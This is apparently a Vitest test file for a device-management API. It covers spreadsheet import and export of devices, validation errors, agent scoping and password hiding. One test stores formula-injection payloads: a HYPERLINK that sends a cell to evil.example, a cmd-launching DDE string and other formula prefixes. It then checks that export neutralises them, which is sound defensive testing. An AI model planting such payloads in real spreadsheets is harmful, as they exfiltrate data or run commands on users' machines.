import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { eq, inArray } from 'drizzle-orm';
import { DEVICE_IMPORT_COLUMNS } from '@siteops/contracts/device/sheet';
import { createTestApp, expectFieldError, formBody, injectOf, queryOf } from '../../../test/harness.ts';
import type { Endpoint, InputOf } from '@siteops/contracts/shared/endpoint';
import { appWithTwoAgents, randomMac, uniq } from '../../../test/fixtures.ts';
import { multipart } from '../../../test/multipart.ts';
import { auditLog, devices } from '../../db/schema/index.ts';
import { EXPORT_CHUNK } from './export.ts';
import { projectApi } from '@siteops/contracts/project/api';
import { agentApi } from '@siteops/contracts/agent/api';
import { deviceApi } from '@siteops/contracts/device/api';

const { t, admin, agentA, agentB } = await appWithTwoAgents(createTestApp);
let agentAName: string;
let agentBName: string;
let projectA: string;
let projectB: string;

const upperMac = () => randomMac({ upperCase: true });

async function addProject(agentId: number) {
  const code = uniq('P-');
  const res = await t.api(projectApi.add, { name: 'Site', code, agentId }, admin);
  expect(res.body.code, res.body.msg).toBe(200);
  return code;
}

/** An xlsx as a person would fill it: the template's English headers unless given. */
async function xlsx(rows: Record<string, string>[], headers: string[] = DEVICE_IMPORT_COLUMNS.map((c) => c['en-US'])) {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('Devices');
  ws.addRow(headers);
  const keys = headers.map((h) => DEVICE_IMPORT_COLUMNS.find((c) => c['en-US'] === h || c['zh-CN'] === h)?.key ?? h);
  for (const r of rows) ws.addRow(keys.map((k) => r[k] ?? null));
  return Buffer.from(await wb.xlsx.writeBuffer());
}

async function importFile(
  token: string,
  file: Buffer,
  mode?: string,
  query = '',
  headers: Record<string, string> = {},
) {
  const body = multipart(file, mode ? { mode } : {});
  return t.api.raw(deviceApi.import, formBody(body), queryOf(query), { token, headers });
}

const row = (over: Record<string, string> = {}) => ({ type: 'face', sn: uniq('IMP'), mac: upperMac(), ...over });
const bySn = async (sns: string[]) => t.database.db.select().from(devices).where(inArray(devices.sn, sns));

async function download<E extends Endpoint>(endpoint: E, input: InputOf<E>, token: string) {
  const res = await t.app.inject(injectOf(endpoint, input, token));
  expect(res.statusCode, res.body.slice(0, 200)).toBe(200);
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
  return { res, wb };
}
const sheetRows = (ws: ExcelJS.Worksheet) => {
  const out: string[][] = [];
  ws.eachRow((r) => out.push((r.values as unknown[]).slice(1).map((v) => (v == null ? '' : String(v)))));
  return out;
};

beforeAll(async () => {
  const names = await t.api(agentApi.listAll, { pageSize: 200 }, admin);
  agentAName = names.body.data.list.find((a: { id: number }) => a.id === agentA.id).name;
  agentBName = names.body.data.list.find((a: { id: number }) => a.id === agentB.id).name;
  projectA = await addProject(agentA.id);
  projectB = await addProject(agentB.id);
});

describe('import template', () => {
  it('has the headers in the asked language, drop-downs and an instructions sheet', async () => {
    const en = await download(deviceApi.importTemplate, { lang: 'en-US' }, admin);
    expect(en.res.headers['content-type']).toContain('spreadsheetml');
    expect(en.res.headers['content-disposition']).toContain('attachment');
    const [header] = sheetRows(en.wb.worksheets[0]);
    expect(header.slice(0, 3)).toEqual(['Device type *', 'Serial number *', 'MAC address *']);
    expect(header).toContain('Project code');
    expect(en.wb.worksheets[1].name).toBe('Instructions');
    const validations = (
      en.wb.worksheets[0] as unknown as { dataValidations: { model: Record<string, { formulae: string[] }> } }
    ).dataValidations.model;
    expect(Object.values(validations).some((v) => v.formulae[0].includes('Face recognition'))).toBe(true);
    const zh = await download(deviceApi.importTemplate, { lang: 'zh-CN' }, agentA.token);
    expect(sheetRows(zh.wb.worksheets[0])[0].slice(0, 2)).toEqual(['设备类型 *', '设备序列号 *']);
    expect((await t.api.unchecked(deviceApi.importTemplate, { lang: 'fr' }, admin)).status).toBe(400);
  });

  it('a filled-in template imports as it is', async () => {
    const { wb } = await download(deviceApi.importTemplate, { lang: 'zh-CN' }, admin);
    const r = row({ type: '扬尘监测', direction: '进' });
    wb.worksheets[0].addRow([r.type, r.sn, r.mac, '东门']);
    const res = await importFile(admin, Buffer.from(await wb.xlsx.writeBuffer()));
    expect(res.body.data, res.body.msg).toMatchObject({ created: 1, failed: 0, committed: true });
    expect((await bySn([r.sn]))[0]).toMatchObject({ type: 'dust', devName: '东门' });
  });
});

describe('device import', () => {
  it('creates, then re-importing the same file updates and never duplicates', async () => {
    const rows = [
      row({ devName: 'Gate 1', agent: agentAName, projectCode: projectA, direction: 'in' }),
      row({ type: 'Dust monitor', mac: upperMac().replace(/:/g, '-').toLowerCase() }),
      row({ type: 'plate', projectCode: projectB }),
    ];
    const file = await xlsx(rows);
    const first = await importFile(admin, file, 'valid-rows');
    expect(first.body.data, first.body.msg).toMatchObject({
      rows: 3,
      created: 3,
      updated: 0,
      failed: 0,
      committed: true,
    });
    const again = await importFile(admin, file, 'all-or-nothing');
    expect(again.body.data).toMatchObject({ created: 0, updated: 3, failed: 0, committed: true });
    const stored = await bySn(rows.map((r) => r.sn));
    expect(stored).toHaveLength(3);
    const gate = stored.find((d) => d.sn === rows[0].sn)!;
    expect(gate).toMatchObject({ devName: 'Gate 1', agentId: agentA.id, direction: 'in', type: 'face' });
    expect(stored.find((d) => d.sn === rows[1].sn)!.type).toBe('dust');
    // A project brings its agent along.
    expect(stored.find((d) => d.sn === rows[2].sn)!.agentId).toBe(agentB.id);
    const audit = await t.database.db.select().from(auditLog).where(eq(auditLog.action, 'device.import'));
    expect(audit.map((a) => a.detail)).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ mode: 'valid-rows', rows: 3, created: 3, updated: 0 }),
        expect.objectContaining({ mode: 'all-or-nothing', rows: 3, created: 0, updated: 3 }),
      ]),
    );
  });

  it('an update changes the cells given and leaves empty ones as they were', async () => {
    const r = row({ devName: 'Before', installSite: 'North gate', remark: 'keep me' });
    await importFile(admin, await xlsx([r]));
    const res = await importFile(admin, await xlsx([{ type: r.type, sn: r.sn, mac: r.mac, devName: 'After' }]));
    expect(res.body.data).toMatchObject({ updated: 1 });
    expect((await bySn([r.sn]))[0]).toMatchObject({ devName: 'After', installSite: 'North gate', remark: 'keep me' });
  });

  it('lists row errors by row and column; all-or-nothing imports none, valid-rows the rest', async () => {
    const good = row();
    const dupSn = row();
    const rows = [
      good, // row 2
      { ...row(), mac: '' }, // 3: mac required
      row({ mac: 'ZZ:00' }), // 4: bad mac
      row({ type: 'toaster' }), // 5: bad type
      dupSn, // 6
      { ...row(), sn: dupSn.sn }, // 7: sn twice in the file
      row({ projectCode: 'NO-SUCH-PROJECT' }), // 8
      row({ agent: 'No such agent' }), // 9
      row({ direction: 'sideways' }), // 10
      row({ sn: 'bad sn with spaces' }), // 11
    ];
    const file = await xlsx(rows);
    const none = await importFile(admin, file, 'all-or-nothing');
    expect(none.status, none.body.msg).toBe(200);
    expect(none.body.data).toMatchObject({ rows: 10, created: 0, updated: 0, failed: 8, committed: false });
    expect(none.body.msg).toMatch(/Nothing imported/);
    const where = (none.body.data.errors as { row: number; column: string }[]).map((e) => `${e.row}:${e.column}`);
    expect(where).toEqual(['3:mac', '4:mac', '5:type', '7:sn', '8:projectCode', '9:agent', '10:direction', '11:sn']);
    expect(await bySn([good.sn, dupSn.sn])).toHaveLength(0);

    const some = await importFile(admin, file, undefined, '?mode=valid-rows&lang=zh-CN');
    expect(some.body.data).toMatchObject({ created: 2, failed: 8, committed: true });
    expect(some.body.data.errors[0]).toEqual({ row: 3, column: 'mac', message: 'MAC地址不能为空' });
    expect(await bySn([good.sn, dupSn.sn])).toHaveLength(2);
  });

  it('says row errors in the caller’s language, naming device types by their labels, never their codes', async () => {
    const file = await xlsx([row({ type: 'toaster' }), row({ direction: 'sideways' }), row({ sn: 'bad sn' })]);
    const en = await importFile(admin, file, 'valid-rows');
    const zh = await importFile(admin, file, 'valid-rows', '', { 'accept-language': 'zh-CN' });
    const messages = (res: typeof en) => (res.body.data.errors as { message: string }[]).map((e) => e.message);
    expect(messages(en)).toEqual([
      expect.stringContaining('device type must be one of: Face recognition, Dust monitor,'),
      'direction must be one of: None, In, Out',
      'Serial number is invalid: sn must be 1-64 letters, digits or _ . : -',
    ]);
    expect(messages(zh)).toEqual([
      expect.stringContaining('设备类型必须是：人脸识别、扬尘监测、'),
      '进出方向必须是：无、进、出',
      '设备序列号格式不正确：设备序列号 必须是 1-64 位字母、数字或 _ . : -',
    ]);
    expect(JSON.stringify(messages(zh))).not.toMatch(/\bface\b|\bdust\b|towerCrane/);
    expect(en.body.msg).toBe('Nothing imported: 3 rows have errors');
    expect(zh.body.msg).toBe('未导入：3 行有错误');
    // `lang` still chooses the row messages when given.
    const asked = await importFile(admin, file, 'valid-rows', '?lang=zh-CN');
    expect(messages(asked)).toEqual(messages(zh));
  });

  it('refuses a MAC another device uses', async () => {
    const existing = row();
    await importFile(admin, await xlsx([existing]));
    const res = await importFile(admin, await xlsx([row({ mac: existing.mac })]));
    expect(res.body.data.errors).toEqual([expect.objectContaining({ row: 2, column: 'mac' })]);
    expect(res.body.data.errors[0].message).toContain(existing.sn);
  });

  it('imports the HJ 212 MN and password (encrypted); an MN another device uses or one twice in the file is a row error', async () => {
    const mn = () => uniq('MN').replace(/[^0-9A-Za-z]/g, '');
    const monitorMn = mn();
    const monitor = row({ type: 'dust', hj212Mn: monitorMn, hj212Pw: '112233' });
    const res = await importFile(admin, await xlsx([monitor]));
    expect(res.body.data, JSON.stringify(res.body.data.errors)).toMatchObject({ created: 1, failed: 0 });
    const [stored] = await bySn([monitor.sn]);
    expect(stored.hj212Mn).toBe(monitorMn);
    expect(stored.hj212Pw?.startsWith('v1.')).toBe(true);
    const twice = mn();
    const bad = await importFile(
      admin,
      await xlsx([row({ hj212Mn: monitorMn }), row({ hj212Mn: twice }), row({ hj212Mn: twice })]),
      'valid-rows',
    );
    expect(bad.body.data.errors).toEqual([
      expect.objectContaining({ row: 2, column: 'hj212Mn' }),
      expect.objectContaining({ row: 4, column: 'hj212Mn' }),
    ]);
    expect(bad.body.data.errors[0].message).toContain(monitor.sn);
  });

  it('an agent imports only into its own agent and projects', async () => {
    const theirs = row({ agent: agentBName });
    await importFile(admin, await xlsx([theirs]));
    const mine = row({ projectCode: projectA });
    const plain = row();
    const rows = [
      mine, // 2
      plain, // 3: no agent given: still the importer's agent
      { ...row(), sn: theirs.sn }, // 4: another agent's device
      row({ projectCode: projectB }), // 5: another agent's project (looks like it does not exist)
      row({ agent: agentBName }), // 6: another agent
      row({ mac: theirs.mac }), // 7: the MAC of another agent's device, whose sn is not told
    ];
    const res = await importFile(agentA.token, await xlsx(rows), 'valid-rows', '?lang=en-US');
    expect(res.body.data).toMatchObject({ created: 2, failed: 4 });
    const where = (res.body.data.errors as { row: number; column: string }[]).map((e) => `${e.row}:${e.column}`);
    expect(where).toEqual(['4:sn', '5:projectCode', '6:agent', '7:mac']);
    expect(JSON.stringify(res.body.data.errors)).not.toContain(theirs.sn);
    const stored = await bySn([mine.sn, plain.sn, theirs.sn]);
    expect(stored.find((d) => d.sn === mine.sn)).toMatchObject({ agentId: agentA.id });
    expect(stored.find((d) => d.sn === plain.sn)).toMatchObject({ agentId: agentA.id, projectId: null });
    expect(stored.find((d) => d.sn === theirs.sn)).toMatchObject({ agentId: agentB.id });
  });

  it('never tells an agent that another agent owns a serial number or MAC', async () => {
    const theirs = row({ agent: agentBName });
    await importFile(admin, await xlsx([theirs]));
    const file = await xlsx([{ ...row(), sn: theirs.sn }, row({ mac: theirs.mac })]);
    const messages = async (lang: string) =>
      (
        (await importFile(agentA.token, file, 'valid-rows', `?lang=${lang}`)).body.data.errors as { message: string }[]
      ).map((e) => e.message);
    // The words of any value that cannot be used: nothing about whose device it is.
    expect(await messages('en-US')).toEqual(['Serial number cannot be used', 'MAC address cannot be used']);
    expect(await messages('zh-CN')).toEqual(['设备序列号无法使用', 'MAC地址无法使用']);
  });

  it('answers 400 for what is not an import: no file, not xlsx, no required columns, bad mode', async () => {
    expect((await t.api(deviceApi.import, {}, admin)).status).toBe(400);
    const notXlsx = await importFile(admin, Buffer.from('hello'));
    expectFieldError(notXlsx, 'file');
    const noMac = await importFile(admin, await xlsx([{ type: 'face', sn: 'X1' }], ['Device type', 'Serial number']));
    expect(noMac.status).toBe(400);
    expect(noMac.body.msg).toContain('MAC');
    const badMode = await importFile(admin, await xlsx([row()]), 'sometimes');
    expectFieldError(badMode, 'mode');
    const user = await t.api(deviceApi.import, {});
    expect(user.status).toBe(401);
  });
});

describe('device export', () => {
  it('exports the filtered devices with headers in the language, never the terminal password', async () => {
    const type = 'towerCrane';
    const sns: string[] = [];
    for (let i = 0; i < 3; i++) {
      const sn = uniq('EXP');
      sns.push(sn);
      const res = await t.api(
        deviceApi.add,
        {
          type,
          sn,
          mac: upperMac(),
          devName: `Crane ${i}`,
          terminalPassword: 'TopSecret-42',
          agentId: agentA.id,
        },
        admin,
      );
      expect(res.body.code, res.body.msg).toBe(200);
    }
    const { res, wb } = await download(deviceApi.export, { type, lang: 'en-US' }, admin);
    expect(res.headers['content-disposition']).toMatch(/attachment; filename="devices-\d{8}-\d{4}\.xlsx"/);
    const rows = sheetRows(wb.worksheets[0]);
    expect(rows[0]).toEqual(expect.arrayContaining(['Device type', 'Serial number', 'Agent', 'Auth status']));
    expect(rows).toHaveLength(4);
    const snCol = rows[0].indexOf('Serial number');
    expect(rows.slice(1).map((r) => r[snCol])).toEqual(sns);
    expect(rows[1][rows[0].indexOf('Device type')]).toBe('Tower crane');
    expect(rows[1][rows[0].indexOf('Agent')]).toBe(agentAName);
    expect(JSON.stringify(rows)).not.toContain('TopSecret-42');
    expect(rows[0].join(' ')).not.toMatch(/password/i);

    const zh = await download(deviceApi.export, { type, lang: 'zh-CN', devName: 'Crane 1' }, admin);
    const zhRows = sheetRows(zh.wb.worksheets[0]);
    expect(zhRows).toHaveLength(2);
    expect(zhRows[0][0]).toBe('设备类型');
    // The exported file imports again (same columns, labels understood).
    const back = await importFile(admin, Buffer.from(await zh.wb.xlsx.writeBuffer()));
    expect(back.body.data).toMatchObject({ updated: 1, failed: 0 });
  });

  it('exports text a spreadsheet would run as a formula as plain text, and imports it back unchanged', async () => {
    const sn = uniq('FX');
    const hostile = {
      devName: '=HYPERLINK("http://evil.example/?d="&B2,"Click me")',
      factoryName: "+1+cmd|' /C calc'!A0",
      installSite: '-2+3',
      remark: '@SUM(1,2)',
    };
    const add = await t.api(deviceApi.add, { type: 'gateway', sn, mac: upperMac(), ...hostile }, admin);
    expect(add.body.code, add.body.msg).toBe(200);
    const { wb } = await download(deviceApi.export, { sn, lang: 'en-US' }, admin);
    const ws = wb.worksheets[0];
    const header = sheetRows(ws)[0];
    const cell = (label: string) => ws.getRow(2).getCell(header.indexOf(label) + 1);
    const name = cell('Device name');
    expect(name.type).toBe(ExcelJS.ValueType.String);
    expect(name.formula).toBeUndefined();
    expect(name.value).toBe(`'${hostile.devName}`);
    expect(cell('Manufacturer').value).toBe(`'${hostile.factoryName}`);
    expect(cell('Install site').value).toBe(`'${hostile.installSite}`);
    expect(cell('Remark').value).toBe(`'${hostile.remark}`);
    expect(cell('Serial number').value).toBe(sn);

    const back = await importFile(admin, Buffer.from(await wb.xlsx.writeBuffer()));
    expect(back.body.data).toMatchObject({ updated: 1, failed: 0 });
    expect((await bySn([sn]))[0]).toMatchObject(hostile);
  });

  it('keeps to the scope: an agent exports only its devices; other roles none', async () => {
    const { wb } = await download(deviceApi.export, { lang: 'en-US' }, agentB.token);
    const rows = sheetRows(wb.worksheets[0]);
    const agentCol = rows[0].indexOf('Agent');
    expect(rows.length).toBeGreaterThan(1);
    expect(new Set(rows.slice(1).map((r) => r[agentCol]))).toEqual(new Set([agentBName]));
    expect((await t.api.unchecked(deviceApi.export, { sortField: 'nope' }, admin)).status).toBe(400);
  });

  it('streams more rows than one keyset page, each once', async () => {
    const prefix = uniq('BULK');
    const n = EXPORT_CHUNK * 2 + 17;
    const values = Array.from({ length: n }, (_, i) => ({
      type: 'gateway',
      sn: `${prefix}-${String(i).padStart(5, '0')}`,
      mac: null,
      devName: prefix,
    }));
    for (let i = 0; i < n; i += 1000) await t.database.db.insert(devices).values(values.slice(i, i + 1000));
    const { wb } = await download(deviceApi.export, { devName: prefix, lang: 'en-US' }, admin);
    const rows = sheetRows(wb.worksheets[0]);
    expect(rows).toHaveLength(n + 1);
    const snCol = rows[0].indexOf('Serial number');
    expect(new Set(rows.slice(1).map((r) => r[snCol])).size).toBe(n);
  });
});
